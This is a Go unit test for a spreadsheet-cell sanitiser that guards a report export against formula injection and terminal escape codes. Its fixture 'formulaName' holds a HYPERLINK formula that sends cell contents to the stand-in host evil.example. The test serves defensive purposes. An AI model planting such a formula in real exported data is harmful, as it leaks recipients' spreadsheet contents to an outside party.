package report

import "testing"

// formulaName is a buyer's name that a spreadsheet would run as a formula.
const formulaName = `=HYPERLINK("http://evil.example/?d="&A1,"Click")`

func TestCell(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"Jörg Müller", "Jörg Müller"},
		{formulaName, "'" + formulaName},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"＝1+1", "'＝1+1"},
		{"-19.95", "-19.95"},
		{"+49", "+49"},
		{"19.95", "19.95"},
		{"-", "'-"},
		{"a=b", "a=b"},
		{"agent \x1b[31mred\x07", "agent \uFFFD[31mred\uFFFD"},
		{"two\nlines", "two\nlines"},
	} {
		if got := cell(tt.in); got != tt.want {
			t.Errorf("cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
